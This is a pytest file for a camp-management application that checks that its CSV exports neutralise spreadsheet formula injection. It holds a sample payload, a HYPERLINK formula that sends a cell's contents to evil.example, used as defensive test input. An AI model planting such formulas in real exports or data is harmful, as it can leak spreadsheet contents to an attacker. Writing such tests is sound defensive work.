"""No CSV that edgecamp wrote neutralised a cell starting with = + - @ (or a tab or carriage
return, per OWASP): a name typed as `=HYPERLINK(…)` ran as a formula in the spreadsheet that
opened the export. Every export now goes through edgecamp.csvio's writer, which prefixes such
a text cell with an apostrophe; a plain number such as -5 is data and is written as it is."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from edgecamp.cli import main
from edgecamp.csvio import safe_cell
from edgecamp.distributions.cards import card_code
from edgecamp.distributions.services import RedeemInput, redeem, start_cycle
from tests.distributions.factories import make_cycle, per_person
from tests.partners.factories import make_organisation
from tests.registry.factories import make_household
from tests.stock.factories import make_item, make_warehouse, stock_up

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+249 912 345 678", "'+249 912 345 678"),
        ("-", "'-"),
        # Plain numbers are data, not formulas.
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1.5e3", "-1.5e3"),
        (-5, -5),
        ("Relief Org", "Relief Org"),
        ("a=b", "a=b"),
        ("#org", "#org"),
        ("", ""),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_neutralised(value, written):
    assert safe_cell(value) == written


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_allocate_file_plan_neutralises_ids(tmp_path):
    shelters = tmp_path / "shelters.csv"
    shelters.write_text(
        "shelter_id,block,covered_m2,capacity,accessible,near_facilities\n@A-01,A,17,5,1,1\n",
        encoding="utf-8",
    )
    households = tmp_path / "households.csv"
    with households.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["household_id", "size", "origin", "needs"], [FORMULA, 4, "X", ""]]
        )
    out = tmp_path / "plan.csv"

    assert main(["allocate-file", str(shelters), str(households), "--out", str(out)]) == 0

    [header, row] = _rows(out)
    assert header == ["household_id", "shelter_ids", "explanation"]
    assert row[:2] == ["'" + FORMULA, "'@A-01"]


def test_dedupe_outputs_neutralise_record_ids(tmp_path):
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["record_id", "given_name", "family_name", "sex", "date_of_birth"],
                [FORMULA, "Hawa", "Adam", "F", "1990-01-01"],
                ["-5", "Hawa", "Adam", "F", "1990-01-01"],
            ]
        )
    out, pairs = tmp_path / "clusters.csv", tmp_path / "pairs.csv"

    assert main(["dedupe", str(source), "--out", str(out), "--pairs", str(pairs)]) == 0

    ids = {row[0] for row in _rows(out)[1:]}
    assert ids == {"'" + FORMULA, "-5"}
    # The pairs go through the same writer (two records are too few to link here).
    assert _rows(pairs)[0] == ["record_id_l", "record_id_r", "probability"]


@pytest.mark.django_db
def test_hxl_export_neutralises_names(site, logged_in_client):
    site.name = "@Camp"
    site.save(update_fields=["name"])
    warehouse = make_warehouse(site)
    maize = make_item(name="+Maize", code="maize")
    stock_up(warehouse, maize, 100)
    household = make_household(site)
    cycle = make_cycle(
        site,
        warehouse,
        [per_person(maize, "10")],
        organisation_id=make_organisation(name=FORMULA).pk,
    )
    start_cycle(cycle.pk)
    redeem(cycle.pk, RedeemInput(code=card_code(household.number)))

    response = logged_in_client.get(reverse("cycle-export", args=[cycle.pk]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    # The hashtag row is kept as HXL tools read it, not neutralised.
    assert rows[1][:2] == ["#org +impl", "#item +name"]
    assert all(tag.startswith("#") for tag in rows[1])
    organisation, item, _code, _quantity, _unit, reached, where, _date = rows[2]
    assert (organisation, item, reached, where) == ("'" + FORMULA, "'+Maize", "1", "'@Camp")
